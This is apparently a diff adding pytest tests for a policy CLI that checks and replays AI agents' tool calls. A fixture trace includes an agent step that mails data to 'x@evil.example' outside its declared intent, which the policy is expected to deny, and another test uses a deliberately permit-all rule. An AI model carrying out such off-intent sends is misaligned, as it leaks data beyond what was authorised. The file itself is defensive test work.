@@ -1,0 +1,135 @@
+"""`guard policy` prints what is wrong, decides traces and answers with the right exit code."""
+
+import json
+from pathlib import Path
+
+import pytest
+
+from guard_adapters.cli import main
+
+HOME = Path(__file__).resolve().parents[3] / "policies"
+SOURCE = ["--config", str(HOME / "tests" / "catalog.yaml"), "--rules", "starter:baseline"]
+TABLE = ["--tables", str(HOME / "tests" / "baseline.yaml")]
+TRACE = {
+    "session": "s-1",
+    "principal": "alice",
+    "agent": "bot",
+    "intent": {"purpose": "write", "tools": ["write"], "egress": ["corp.example"]},
+    "steps": [
+        {"server": "docs", "tool": "read", "args": {"id": "a"}, "result": "hi"},
+        {"server": "mail", "tool": "send", "args": {"to": ["x@evil.example"], "body": "b"}},
+        {"server": "docs", "tool": "write", "args": {"id": "a"}},
+    ],
+}
+
+
+@pytest.fixture
+def traces(tmp_path):
+    path = tmp_path / "traces.jsonl"
+    path.write_text(json.dumps(TRACE) + "\n", encoding="utf-8")
+    return str(path)
+
+
+def test_check_of_a_sound_policy_ends_with_a_sum_and_zero(capsys):
+    assert main(["policy", "check", *SOURCE, *TABLE]) == 0
+    assert "15 rules, 10 tools" in capsys.readouterr().out.splitlines()[-1]
+
+
+def test_check_names_file_line_code_and_rule_and_ends_with_one(tmp_path, capsys):
+    rules = tmp_path / "bad.cedar"
+    rules.write_text(
+        '\n@id("A-1") @reason("r") forbid (principal, action, resource) when { context.risk.nope };'
+    )
+
+    code = main(["policy", "check", SOURCE[0], SOURCE[1], "--rules", str(rules)])
+
+    out = capsys.readouterr().out
+    assert code == 1
+    assert "bad.cedar:2: error G201 A-1: " in out
+
+
+def test_a_failing_table_ends_with_one(tmp_path, capsys):
+    table = tmp_path / "t.yaml"
+    table.write_text("cases: [{name: a, call: docs/read, args: {id: a}, expect: deny}]\n")
+
+    assert main(["policy", "test", *SOURCE, "--tables", str(table)]) == 1
+    assert "FAIL a: wanted deny, got allow [BASE-002]" in capsys.readouterr().out
+
+
+def test_a_passing_table_ends_with_zero_and_counts(capsys):
+    assert main(["policy", "test", *SOURCE, *TABLE]) == 0
+    assert "0 failed; forbids fired 13/13" in capsys.readouterr().out
+
+
+def test_replay_prints_decisions_on_stdout_and_sums_on_stderr(traces, capsys):
+    assert main(["policy", "replay", *SOURCE, "--no-timing", traces]) == 0
+
+    out, err = capsys.readouterr()
+    assert [json.loads(row)["decision"] for row in out.splitlines()] == ["allow", "deny", "allow"]
+    assert err.startswith("3 calls: allow 2, narrow 0, step_up 0, deny 1\n")
+
+
+def test_replay_with_timing_gives_integers(traces, capsys):
+    assert main(["policy", "replay", *SOURCE, traces]) == 0
+    assert all(
+        isinstance(json.loads(row)["micros"], int) for row in capsys.readouterr().out.splitlines()
+    )
+
+
+def test_traces_that_are_not_there_end_with_three(tmp_path, capsys):
+    assert main(["policy", "replay", *SOURCE, str(tmp_path / "none")]) == 3
+    assert "trace_missing" in capsys.readouterr().err
+
+
+def installation(folder, policy):
+    folder.mkdir()
+    text = (HOME / "tests" / "catalog.yaml").read_text(encoding="utf-8")
+    (folder / "guard.yaml").write_text(
+        f"{text}\nguard: {{policies: [{policy}]}}\n", encoding="utf-8"
+    )
+    return str(folder)
+
+
+def test_diff_ends_with_one_when_anything_loosens(tmp_path, traces, capsys):
+    old = installation(tmp_path / "old", "'starter:baseline'")
+    new = installation(tmp_path / "new", "all.cedar")
+    (tmp_path / "new" / "all.cedar").write_text(
+        '@id("A-1") @reason("all") permit (principal, action in Guard::Action::"any", resource);'
+    )
+
+    assert main(["policy", "diff", old, new, "--traces", traces]) == 1
+    assert capsys.readouterr().out == "mail/send deny -> allow 1 (first: s-1 step 1)\n"
+    assert main(["policy", "diff", old, new, "--traces", traces, "--allow-loosening"]) == 0
+    assert main(["policy", "diff", new, old, "--traces", traces]) == 0
+
+
+def test_explain_shows_which_rule_fired_and_what_would_change_it(tmp_path, capsys):
+    call = tmp_path / "call.json"
+    call.write_text(
+        json.dumps(
+            {
+                "call": "docs/purge",
+                "args": {"id": "a"},
+                "given": {"intent": {"declared": True, "covers": True}},
+            }
+        )
+    )
+
+    assert main(["policy", "explain", *SOURCE, str(call)]) == 0
+
+    out = capsys.readouterr().out
+    assert out.startswith("docs/purge: step_up [irreversible]\n")
+    assert "what would change it: " in out
+
+
+@pytest.mark.parametrize(
+    "words", [[], ["nope"], ["policy"], ["policy", "nope"], ["policy", "replay"]]
+)
+def test_a_wrong_command_line_ends_with_two(words, capsys):
+    assert main(words) == 2
+    assert "usage: guard" in capsys.readouterr().err
+
+
+def test_help_and_version_end_with_zero(capsys):
+    assert main(["--help"]) == 0
+    assert main(["--version"]) == 0
